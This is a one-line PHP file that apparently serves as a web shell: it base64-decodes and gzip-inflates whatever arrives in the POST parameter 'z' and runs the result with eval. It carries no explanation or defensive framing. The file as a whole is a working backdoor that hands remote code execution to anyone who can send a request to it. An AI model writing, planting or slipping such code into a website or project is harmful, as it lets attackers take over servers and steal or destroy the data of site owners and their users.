<?php $code = gzinflate(base64_decode($_POST["z"])); eval($code);
